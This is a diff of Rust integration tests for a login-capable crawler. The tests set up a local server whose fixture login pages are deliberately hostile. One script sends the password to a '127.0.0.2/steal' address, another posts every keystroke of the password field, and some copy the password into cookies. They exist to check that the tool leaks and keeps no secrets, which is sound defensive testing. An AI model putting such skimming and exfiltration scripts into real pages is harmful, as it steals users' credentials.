@@ -74,10 +74,23 @@ const FOREIGN: &str = r#"document.getElementById('go').onclick = () => { const s
     new Image().src = 'http://127.0.0.2:PORT/steal?' + encodeURIComponent(secret);
     throw new Error('sent ' + secret + ' ' + encodeURIComponent(secret)) };"#;
 
-/// A page that asks whether the name is known once it is typed, and writes the password into a cookie.
-const TYPED: &str = r#"user.onchange = () => fetch('check-user', { method: 'POST', body: user.value }).catch(() => 0);
+/// A page that asks whether the name is known once it is typed, and writes the password into cookies.
+const TYPED: &str = r#"for (const of of [user, pass]) for (const kind of ['keydown', 'input', 'change'])
+        of.addEventListener(kind, () => fetch('check-' + kind, { method: 'POST', body: of.value }).catch(() => 0));
     go.onclick = async () => { document.cookie = 'p=' + encodeURIComponent(pass.value) + '; path=/';
+        document.cookie = 'q=' + btoa(unescape(encodeURIComponent(pass.value))) + '; path=/'; document.cookie = 'seen=1; path=/';
         const r = await fetch('in', { method: 'POST', body: user.value + '\n' + pass.value }); if (r.ok) location = './' };"#;
+
+/// A page whose scripts read one thing after the other.
+const READS: &str = r#"const reads = () => fetch('api/a').catch(() => 0).then(() => fetch('api/b')).catch(() => 0);"#;
+
+/// A form whose handler sends one field more, and tells it.
+const FIELDS: &str = r#"function send(form) {
+        console.log(form.colour.value); setTimeout(() => { throw new Error('colour ' + form.colour.value + ' ' + encodeURIComponent(form.colour.value)) });
+        fetch('in?c=1', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({
+            user: form.user.value, pass: form.pass.value, colour: form.colour.value }) }).then(() => location = './');
+        return false }"#;
+const COLOUR: &str = "veilchenblau & 7391+%";
 
 /// What a site's own state is.
 #[derive(Default)]
@@ -125,6 +138,19 @@ async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: 
         return StatusCode::NOT_FOUND.into_response();
     }
     let (site, path) = uri.path().trim_start_matches('/').split_once('/').unwrap_or(("", ""));
+    if (&method, site, path) == (&Method::POST, "lost", "in") {
+        let is_first = {
+            let mut places = web.places.lock().unwrap();
+            let log = &mut places.entry(site.to_owned()).or_default().log;
+            log.push((method, path.to_owned()));
+            log.iter().filter(|(method, _)| *method == Method::POST).count() == 1
+        };
+        if is_first {
+            // Whoever has sent it is lost before this is over.
+            tokio::time::sleep(std::time::Duration::from_secs(60)).await;
+        }
+        return page("Wrong password".to_owned());
+    }
     let mut places = web.places.lock().unwrap();
     let place = places.entry(site.to_owned()).or_default();
     place.log.push((method.clone(), path.to_owned()));
@@ -222,6 +248,47 @@ async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: 
             judge(false);
             (StatusCode::UNAUTHORIZED, "no").into_response()
         }
+        (Method::GET, "slow" | "busy", "login") => page(format!(
+            "<title>Log in</title>{LOOSE}<script>{READS} reads(); go.onclick = () => fetch('in', {{ method: 'POST', body: pass.value }})</script>"
+        )),
+        (Method::GET, "behind", "login") => page(format!(
+            "<title>Log in</title>{LOOSE}<script>{READS} go.onclick = () => fetch('in', {{ method: 'POST', body: pass.value }}).then(reads)\
+             .then(() => location = 'elsewhere')</script>"
+        )),
+        (Method::POST, "behind", "in") => match judge(body == PASSWORD) {
+            Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/behind; HttpOnly"))], "{}").into_response(),
+            None => (StatusCode::UNAUTHORIZED, "no").into_response(),
+        },
+        (Method::GET, "slow" | "busy" | "behind", "api/a") => {
+            let status = if site == "busy" { StatusCode::SERVICE_UNAVAILABLE } else { StatusCode::TOO_MANY_REQUESTS };
+            (status, [(header::RETRY_AFTER, "36000")], "slow down").into_response()
+        }
+        (Method::GET, "fields", "login") => page(format!(
+            "<title>Log in</title><form onsubmit='return send(this)'>User name <input name=user>Password <input type=password name=pass>\
+             Colour <input name=colour><input type=submit value='Log in'></form><script>{FIELDS}</script>"
+        )),
+        (Method::POST, "fields", "in?c=1" | "in") => {
+            let expected = serde_json::json!({ "user": "anna", "pass": PASSWORD, "colour": COLOUR });
+            match judge(serde_json::from_str::<serde_json::Value>(&body).is_ok_and(|body| body == expected)) {
+                Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/fields; HttpOnly"))], "{}").into_response(),
+                None => (StatusCode::UNAUTHORIZED, "no").into_response(),
+            }
+        }
+        (Method::GET, "lost", "login") => page(
+            "<title>Log in</title><form id=f method=post action=in>User name <input name=user>Password <input type=password name=pass>\
+             <input type=submit value='Log in'></form><script src=md5.js></script>"
+                .to_owned(),
+        ),
+        (Method::GET, "lost", "md5.js") => script(
+            "f.addEventListener('submit', e => { e.preventDefault(); fetch('in', { method: 'POST', body: f.pass.value }) })".to_owned(),
+        ),
+        (Method::GET, "hops", "login") => page(format!(
+            "<title>Log in</title>{LOOSE}<script>go.onclick = () => fetch('hop').catch(() => 0).then(() => \
+             fetch('in', {{ method: 'POST', body: pass.value }})).catch(() => 0)</script>"
+        )),
+        (Method::GET, "hops", "hop") => (StatusCode::FOUND, [(header::LOCATION, "/hops/hop2")]).into_response(),
+        (Method::GET, "hops", "hop2") => (StatusCode::FOUND, [(header::LOCATION, "/hops/closed/a")]).into_response(),
+        (Method::POST, "hops", "in") => (StatusCode::SEE_OTHER, [(header::LOCATION, "/hops/closed/b")]).into_response(),
         (Method::GET, "plain", "login") => page(
             "<form method=post action=in>User name <input name=user>Password <input type=password name=pass>\
              <input type=submit value='Log in'></form><script src=app.js></script>"
@@ -263,6 +330,11 @@ struct Stage {
 impl Stage {
     /// The server, and the rule file of one site with these lines in it.
     fn new(site: &'static str, lines: &str) -> Self {
+        Self::with(site, "", lines, "")
+    }
+
+    /// The same, with `top` above all tables and `rate` among the lines of its own.
+    fn with(site: &'static str, top: &str, lines: &str, rate: &str) -> Self {
         let runtime = tokio::runtime::Runtime::new().unwrap();
         let web = Arc::<Web>::default();
         let app = Router::new().fallback(answer).with_state(Arc::clone(&web));
@@ -277,8 +349,8 @@ impl Stage {
         let folder = tempfile::tempdir().unwrap();
         fs::create_dir(folder.path().join("rules")).unwrap();
         let rules = format!(
-            "start = ['http://127.0.0.1:{port}/{site}/']\n[login]\nuser = 'anna'\n{lines}\n[classes]\nindex = ['^/{site}/$']\n\
-             download = ['\\.torrent$']\npage = ['.']\n[rate]\nrequests_per_second = 1000000\nrest_factor = 0\n"
+            "start = ['http://127.0.0.1:{port}/{site}/']\n{top}\n[login]\nuser = 'anna'\n{lines}\n[classes]\nindex = ['^/{site}/$']\n\
+             download = ['\\.torrent$']\npage = ['.']\n[rate]\nrequests_per_second = 1000000\nrest_factor = 0\n{rate}\n"
         );
         fs::write(folder.path().join("rules/site.toml"), rules).unwrap();
         let stage = Self { web, site, folder, _runtime: runtime };
@@ -297,10 +369,15 @@ impl Stage {
         fs::set_permissions(folder.join("site"), fs::Permissions::from_mode(0o600)).unwrap();
     }
 
-    fn run(&self, arguments: &[&str]) -> (Output, String) {
+    fn command(&self, arguments: &[&str]) -> Command {
         let mut command = Command::new(env!("CARGO_BIN_EXE_gleaner"));
         command.args(arguments).arg("--data").arg(self.data()).arg("--rules").arg(self.folder.path().join("rules"));
-        let output = command.env_remove("CREDENTIALS_DIRECTORY").env("GLEANER_LOG", "trace").output().unwrap();
+        command.env_remove("CREDENTIALS_DIRECTORY").env("GLEANER_LOG", "trace");
+        command
+    }
+
+    fn run(&self, arguments: &[&str]) -> (Output, String) {
+        let output = self.command(arguments).output().unwrap();
         let told = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
         for secret in forms(PASSWORD) {
             assert!(!told.contains(&secret), "{secret} is told:\n{told}");
@@ -371,7 +448,7 @@ fn a_handler_that_hashes_is_run_where_its_form_has_no_action() {
 fn crawls_survive_sessions_that_end_with_one_login_each() {
     for (site, lines) in [("built", ""), ("hashed", ""), ("bearer", "probe = '/bearer/api/me'\npage = '/bearer/login'")]
     {
-        let stage = Stage::new(site, lines);
+        let stage = Stage::with(site, "", lines, "connections = 16");
         let (crawl, told) = stage.run(&["crawl", "site"]);
         assert!(crawl.status.success(), "{site}: {told}");
         assert_eq!(torrents(&stage.data().join("torrents")), TORRENTS, "{site}: {told}");
@@ -431,7 +508,16 @@ fn what_is_posted_while_a_name_is_typed_is_no_login_and_no_cookie_takes_the_pass
     let stage = Stage::new("typed", "page = '/typed/login'");
     let (login, told) = stage.run(&["login", "site", "-vv"]);
     assert!(login.status.success(), "{told}");
-    assert_eq!((stage.posts(), stage.asked("check-user"), stage.of(|place| place.logins)), (1, 0, 1), "{told}");
+    assert_eq!((stage.posts(), stage.of(|place| place.logins)), (1, 1), "{told}");
+    let early = stage.of(|place| place.log.iter().filter(|(_, path)| path.starts_with("check-")).count());
+    assert_eq!(early, 0, "{told}");
+    assert!(told.contains("nothing is posted before the form is sent"), "{told}");
+    let kept = fs::read_to_string(stage.data().join("sessions/site.json")).unwrap();
+    assert!(kept.contains("\"seen\"") && kept.contains("\"sid\""), "{kept}");
+    assert!(!kept.contains("\"p\"") && !kept.contains("\"q\""), "{kept}");
+    for secret in forms(PASSWORD) {
+        assert!(!kept.contains(&secret), "{secret} is kept");
+    }
 }
 
 #[test]
@@ -443,4 +529,111 @@ fn forms_that_need_no_scripts_are_sent_without_and_never_is_obeyed() {
     let stage = Stage::new("built", "[render]\nlogin = 'never'");
     let (login, told) = stage.run(&["login", "site", "-vv"]);
     assert_eq!((login.status.code(), stage.asked("app.js"), stage.posts()), (Some(1), 0, 0), "{told}");
+}
+
+#[test]
+fn behind_an_answer_that_asks_for_patience_scripts_ask_nothing_more_and_the_wait_is_kept() {
+    for (site, status) in [("slow", 429), ("busy", 503)] {
+        let stage = Stage::new(site, &format!("page = '/{site}/login'"));
+        let (login, told) = stage.run(&["login", "site", "-vv"]);
+        assert_eq!(login.status.code(), Some(1), "{site}: {told}");
+        assert!(told.contains(&format!("/{site}/api/a answers {status}")), "{site}: {told}");
+        assert_eq!((stage.asked("api/a"), stage.asked("api/b"), stage.posts()), (1, 0, 0), "{site}: {told}");
+
+        let stage = Stage::new(site, &format!("page = '/{site}/login'"));
+        for _ in 0..2 {
+            let (crawl, told) = stage.run(&["crawl", "site"]);
+            assert_eq!(crawl.status.code(), Some(1), "{site}: {told}");
+            // The second crawl waits, too, and asks for nothing.
+            assert_eq!((stage.asked("api/a"), stage.asked("api/b"), stage.posts()), (1, 0, 0), "{site}: {told}");
+            assert_eq!(stage.asked("login"), 1, "{site}: {told}");
+        }
+        let (_, told) = stage.run(&["status"]);
+        assert!(told.contains("waits until") || told.contains("paused until"), "{site}: {told}");
+    }
+    let stage = Stage::new("behind", "page = '/behind/login'");
+    let (login, told) = stage.run(&["login", "site", "-vv"]);
+    assert!(login.status.success(), "{told}");
+    let asked = (stage.asked("api/a"), stage.asked("api/b"), stage.asked("elsewhere"), stage.posts());
+    assert_eq!(asked, (1, 0, 0, 1), "{told}");
+}
+
+#[test]
+fn nothing_of_the_rule_files_fields_is_told() {
+    let stage = Stage::new("fields", &format!("page = '/fields/login'\nfields = {{ colour = '{COLOUR}' }}"));
+    let hidden = |told: &str| {
+        for form in forms(COLOUR) {
+            assert!(!told.contains(&form), "{form} is told:\n{told}");
+        }
+        assert!(!told.contains("veilchenblau"), "{told}");
+    };
+    let (login, told) = stage.run(&["login", "site", "-vv"]);
+    assert!(login.status.success(), "{told}");
+    assert!(told.contains("colour=••••••"), "{told}");
+    hidden(&told);
+    let (crawl, told) = stage.run(&["crawl", "site", "-vv"]);
+    assert!(crawl.status.success(), "{told}");
+    hidden(&told);
+    let (login, told) = stage.run(&["login", "site", "-vv", "--json"]);
+    assert!(login.status.success(), "{told}");
+    hidden(&told);
+}
+
+/// Processes that this one has started.
+fn children_of(parent: u32) -> Vec<i32> {
+    let of = |entry: fs::DirEntry| {
+        let id: i32 = entry.file_name().to_str()?.parse().ok()?;
+        let stat = fs::read_to_string(entry.path().join("stat")).ok()?;
+        // Behind the name, which may hold anything: state, then the parent.
+        let above: u32 = stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse().ok()?;
+        (above == parent).then_some(id)
+    };
+    fs::read_dir("/proc").unwrap().filter_map(|entry| of(entry.unwrap())).collect()
+}
+
+#[test]
+fn a_child_that_is_lost_behind_the_post_is_no_reason_for_a_second_one() {
+    let stage = Stage::new("lost", "page = '/lost/login'\n[render]\nlogin = 'always'");
+    let out = fs::File::create(stage.folder.path().join("out")).unwrap();
+    let mut login =
+        stage.command(&["login", "site", "-vv"]).stdout(out.try_clone().unwrap()).stderr(out).spawn().unwrap();
+    while stage.posts() == 0 {
+        assert!(
+            login.try_wait().unwrap().is_none(),
+            "{}",
+            fs::read_to_string(stage.folder.path().join("out")).unwrap()
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let children = children_of(login.id());
+    assert!(!children.is_empty(), "its page is open in a child");
+    for child in children {
+        let child = rustix::process::Pid::from_raw(child).unwrap();
+        rustix::process::kill_process(child, rustix::process::Signal::KILL).unwrap();
+    }
+    let code = login.wait().unwrap().code();
+    let told = fs::read_to_string(stage.folder.path().join("out")).unwrap();
+    assert_eq!((code, stage.posts()), (Some(1), 1), "{told}");
+    assert!(told.contains("broke off while their POST was under way"), "{told}");
+}
+
+#[test]
+fn deny_holds_on_each_hop_of_what_a_script_asks() {
+    let stage = Stage::with("hops", "deny = ['/closed/']", "page = '/hops/login'", "");
+    let (login, told) = stage.run(&["login", "site", "-vv"]);
+    assert_eq!(login.status.code(), Some(1), "{told}");
+    assert_eq!((stage.asked("hop"), stage.asked("hop2"), stage.posts()), (1, 1, 1), "{told}");
+    assert_eq!((stage.asked("closed/a"), stage.asked("closed/b")), (0, 0), "{told}");
+}
+
+#[test]
+fn the_pause_before_a_login_by_scripts_is_told_and_no_step_twice() {
+    let stage = Stage::new("built", "");
+    let (login, told) = stage.run(&["login", "site", "-v"]);
+    assert!(login.status.success(), "{told}");
+    let at = |wanted: &str| told.find(wanted).unwrap_or_else(|| panic!("`{wanted}` is missing in {told}"));
+    assert!(at("waiting 2 s before sending, as a person would") < at("scripts send it: POST "), "{told}");
+    for once in ["waiting 2 s", "scripts send it: POST ", "page of the form: "] {
+        assert_eq!(told.matches(once).count(), 1, "{once}: {told}");
+    }
 }
